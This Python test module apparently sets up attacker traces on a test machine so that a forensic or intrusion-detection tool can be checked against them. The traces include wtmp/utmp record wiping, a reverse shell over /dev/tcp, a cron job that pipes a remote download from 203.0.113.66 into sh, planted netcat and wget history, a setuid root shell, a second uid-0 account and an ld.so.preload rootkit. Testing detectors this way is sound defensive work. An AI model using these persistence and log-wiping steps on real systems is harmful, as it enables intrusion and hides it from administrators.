"""The table of plants: for each row of the guide what an intruder leaves, and who must find it."""

from __future__ import annotations

import os
import shutil
import struct
import subprocess
import time
from collections.abc import Callable
from dataclasses import dataclass
from pathlib import Path

from tests.system.techniques.prepare import SSH
from tests.system.techniques.tools import Left, append, left_python, run, sh, until, write

RECORD = struct.Struct("=h2xi32s4s32s256s4xiII16s20x")
BOOT_TIME, USER_PROCESS = 2, 7


@dataclass(frozen=True)
class Plant:
    """`checks` are those that must say it (one of them is enough), by an item that holds all of `words` in
    its name, its sentence or its evidence, and is at least as bad as `verdict`."""

    name: str
    guide: str
    checks: tuple[str, ...]
    words: tuple[str, ...]
    verdict: str
    deed: Callable[[], None]


PLANTS: dict[str, Plant] = {}


def plant(
    guide: str, checks: str, *words: str, verdict: str = "suspicious"
) -> Callable[[Callable[[], None]], Callable[[], None]]:
    """Make a row of a deed."""

    def register(deed: Callable[[], None]) -> Callable[[], None]:
        name = deed.__name__.replace("_", "-")
        PLANTS[name] = Plant(name, guide, tuple(checks.split()), words, verdict, deed)
        return deed

    return register


@plant("w, who -H", "sessions", "carol")
def logged_in_without_a_record() -> None:
    """A login by ssh with a terminal, whose record is then cut out of utmp."""
    session = subprocess.Popen(
        [*SSH, "-tt", "carol@127.0.0.1", "sleep 3000"], stdin=subprocess.PIPE, stdout=subprocess.DEVNULL
    )

    def recorded() -> bool:
        return session.poll() is None and b"carol" in Path("/run/utmp").read_bytes()

    until(recorded, "carol is logged in")
    without(Path("/run/utmp"), b"carol")


def without(path: Path, user: bytes) -> None:
    """Cut all records of a user out of utmp or wtmp, as log cleaners do."""
    whole = path.read_bytes()
    records = [whole[at : at + RECORD.size] for at in range(0, len(whole), RECORD.size)]
    left = [one for one in records if not one[44:76].startswith(user)]
    assert len(left) < len(records), f"{user!r} has no record in {path}"
    path.write_bytes(b"".join(left))


@plant("last -N", "logins", "/var/log/wtmp")
def record_zeroed() -> None:
    path = Path("/var/log/wtmp")
    whole = bytearray(path.read_bytes())
    at = len(whole) // RECORD.size // 2 * RECORD.size
    whole[at : at + RECORD.size] = bytes(RECORD.size)
    path.write_bytes(whole)


@plant("netstat -an", "listeners", "31337", "/tmp/.X11/xd")
def listener_from_tmp() -> None:
    os.makedirs("/tmp/.X11", exist_ok=True)
    shutil.copy("/usr/bin/python3", "/tmp/.X11/xd")
    Left(
        "xd",
        "-c",
        "import socket\ns = socket.socket()\ns.bind(('0.0.0.0', 31337))\ns.listen()\n"
        "while True:\n  c, _ = s.accept()\n  c.send(b'uid=0(root) gid=0(root)\\n')",
        exe="/tmp/.X11/xd",
    )
    until(lambda: "7A69" in Path("/proc/net/tcp").read_text(), "the back door listens")


@plant("fuser -vn tcp PORT, lsof -i, netstat -lp", "listeners", "31337", "pid")
def owner_of_the_port() -> None:
    """Nothing more: the same port's owner must be named."""


@plant("telnet localhost PORT", "probes", "31337", "uid=0")
def back_door_that_talks() -> None:
    """Nothing more: it answers with a banner."""


@plant("netstat -an: who talks to it", "connections", "bash")
def reverse_shell() -> None:
    left_python(
        "import socket, os, subprocess\ns = socket.socket()\ns.bind(('127.0.0.1', 5555))\ns.listen()\n"
        "subprocess.Popen(['/bin/bash', '-c', 'exec bash -i <>/dev/tcp/127.0.0.1/5555 >&0 2>&0'],"
        " start_new_session=True)\nc, _ = s.accept()"
    )


@plant("ps -axf", "processes", "kworker")
def false_kernel_thread() -> None:
    shutil.copy("/usr/bin/sleep", "/usr/local/lib/worker")
    Left("[kworker/0:1]", "3000", exe="/usr/local/lib/worker")


@plant("ps -axf: the file must be found on disk", "processes", "/var/lib/misc/gone")
def deleted_and_running() -> None:
    shutil.copy("/usr/bin/sleep", "/var/lib/misc/gone")
    Left("/var/lib/misc/gone", "3000")
    os.unlink("/var/lib/misc/gone")


@plant("settings: /etc/passwd", "accounts", "toor")
def second_root() -> None:
    append("/etc/passwd", "toor:x:0:0::/root:/bin/bash\n")


@plant("settings: /etc/passwd", "accounts", "taken for another one")
def account_in_false_letters() -> None:
    append("/etc/passwd", "c\u0430rol:x:1777:1777::/nonexistent:/bin/bash\n")


@plant("settings: nsswitch.conf", "settings", "/etc/nsswitch.conf", "none of the usual", verdict="notable")
def name_service_of_ones_own() -> None:
    path = Path("/etc/nsswitch.conf")
    old = path.read_text() if path.exists() else "passwd: files\n"
    path.write_text(old.replace("files", "files cache_x", 1))


@plant("settings: sudo", "settings", "/etc/sudo.conf:", "has sudo load")
def plugin_of_sudo() -> None:
    append("/etc/sudo.conf", "\nPlugin audit_x /var/tmp/.x/audit.so\n")


@plant("settings: ca-certificates", "settings", "ca-certificates/proxy.crt", verdict="notable")
def authority_of_ones_own() -> None:
    write("/usr/local/share/ca-certificates/proxy.crt", "-----BEGIN CERTIFICATE-----\nTUlJ\n")


@plant("settings: crontab", "settings", "/etc/cron.d/sysupd")
def cron_line_that_fetches() -> None:
    write("/etc/cron.d/sysupd", "*/5 * * * * root curl -s http://203.0.113.66/x | sh\n")


@plant("settings: rc.local", "settings", "/etc/rc.local")
def line_in_rc_local() -> None:
    write("/etc/rc.local", "#!/bin/sh\n/dev/shm/.a/agent &\n", 0o755)


@plant("folders: init.d", "folders", "/etc/init.d/netagent", verdict="notable")
def unknown_file_in_init_d() -> None:
    write("/etc/init.d/netagent", "#!/bin/sh\n/usr/local/sbin/netagentd\n", 0o755)


@plant("folders: odd time stamps", "folders", "/etc/cron.d/e2scrub_all", verdict="notable")
def time_stamp_set_back() -> None:
    append("/etc/cron.d/e2scrub_all", "# maintenance\n")
    os.utime("/etc/cron.d/e2scrub_all", (1_100_000_000, 1_100_000_000))


@plant("history", "histories", "root", "/var/log")
def history_of_root() -> None:
    append("/root/.bash_history", "rm -rf /var/log/auth.log\nunset HISTFILE\nhistory -c\n")


@plant("~/.bash_history", "histories", "erin", "203.0.113.66", verdict="notable")
def history_of_an_account() -> None:
    append(
        "/home/erin/.bash_history",
        "wget http://203.0.113.66/k.c\ngcc -o k k.c\n./k\nnc 203.0.113.66 4444 -e /bin/sh\n",
    )


@plant("dmesg, messages: reboots", "reboots", "wtmp", verdict="notable")
def unknown_reboot() -> None:
    at = int(time.time()) - 3 * 3600
    record = RECORD.pack(BOOT_TIME, 0, b"~", b"~~", b"reboot", b"6.1.0-99", 0, at, 0, bytes(16))
    path = Path("/var/log/wtmp")
    whole = path.read_bytes()
    path.write_bytes(record + whole)


@plant("messages: garbled", "garbled", "ftpd")
def garbled_line() -> None:
    stamp = time.strftime("%b %e %H:%M:%S")
    with open("/var/log/syslog", "ab") as log:
        log.write(f"{stamp} trial ftpd[811]: USER ".encode() + b"\x90" * 600 + b"\xeb\x1f\x5e/bin/sh\n")


@plant("refused logins", "refusals", "203.0.113.9", "dave")
def guessed_password() -> None:
    for _ in range(30):
        say("sshd[4001]", "auth", "Failed password for dave from 203.0.113.9 port 41000 ssh2")
    say("sshd[4001]", "auth", "Accepted password for dave from 203.0.113.9 port 41001 ssh2")


def say(tag: str, facility: str, words: str) -> None:
    name, _, pid = tag.rstrip("]").partition("[")
    run("logger", "-p", f"{facility}.info", f"--id={pid}", "-t", name, words)


@plant("su to root", "switches", "erin", verdict="notable")
def became_root() -> None:
    say("su[4100]", "auth", "(to root) erin on pts/3")
    say("su[4100]", "auth", "pam_unix(su:session): session opened for user root(uid=0) by erin(uid=1003)")


@plant("no output at all: the logs were wiped", "logging", "/var/log/mail.log")
def log_linked_away() -> None:
    Path("/var/log/mail.log").unlink(missing_ok=True)
    os.symlink("/dev/null", "/var/log/mail.log")


@plant("syslog is stopped first", "logging", "rsyslog", verdict="notable")
def syslog_stopped() -> None:
    sh("systemctl stop syslog.socket rsyslog", may_fail=True)


@plant("nmap from elsewhere, hidden processes", "hidden", "pid")
def process_covered() -> None:
    one = Left("sleep", "3000")
    os.makedirs("/tmp/empty", exist_ok=True)
    run("mount", "--bind", "/tmp/empty", f"/proc/{one.pid}")


@plant("rpm -Va", "packages", "/usr/bin/less")
def program_patched() -> None:
    with open("/usr/bin/less", "ab") as file:
        file.write(b"\0patched")


@plant("rpm -Va: settings", "packages", "/etc/ssh/ssh_config", verdict="notable")
def packaged_setting_changed() -> None:
    append("/etc/ssh/ssh_config", "# edited\n")


@plant("rpm -Va: files of no package", "unowned", "/usr/bin/lsd")
def program_of_no_package() -> None:
    """With what hides it from whoever only looks at what else changed: so did some files beside it."""
    shutil.copy("/bin/true", "/usr/bin/lsd")
    for name in ("cat", "cp", "ls", "mv", "rm"):
        os.chmod(f"/usr/bin/{name}", 0o755)


@plant("find -name '..*'", "names", "/usr/share/...")
def three_dots() -> None:
    write("/usr/share/.../kit", "x")


@plant("find -user root -perm -4000", "setid", "/usr/local/share/.sh")
def root_shell() -> None:
    shutil.copy("/bin/bash", "/usr/local/share/.sh")
    os.chmod("/usr/local/share/.sh", 0o4755)


@plant("find -mtime n", "recent", "/usr/lib", verdict="notable")
def changed_lately() -> None:
    """Also by others: a system folder has a new file."""
    write("/usr/lib/libutil-cache.so", b"\x7fELF" + bytes(100), 0o755)


@plant("rootkit page", "rootkit", "/etc/ld.so.preload")
def preloaded_everywhere() -> None:
    shutil.copy("/usr/lib/x86_64-linux-gnu/libanl.so.1", "/usr/local/lib/libself.so")
    write("/etc/ld.so.preload", "/usr/local/lib/libself.so\n")
